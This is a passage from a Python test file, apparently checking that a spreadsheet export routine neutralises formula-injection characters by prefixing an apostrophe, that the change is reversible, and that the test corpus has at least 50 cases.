            want = ["'" + v if v[:1] in ("=", "@", "'", "\t", "\r") or (v[:1] in ("+", "-") and not plain.match(v))
                    else v for v in p]
            assert c == want, (t, col)
            assert [write.unneutralise(v) for v in c] == p, (t, col)  # reversible


def test_the_corpus_is_big_enough():
    assert len(CASES) >= 50
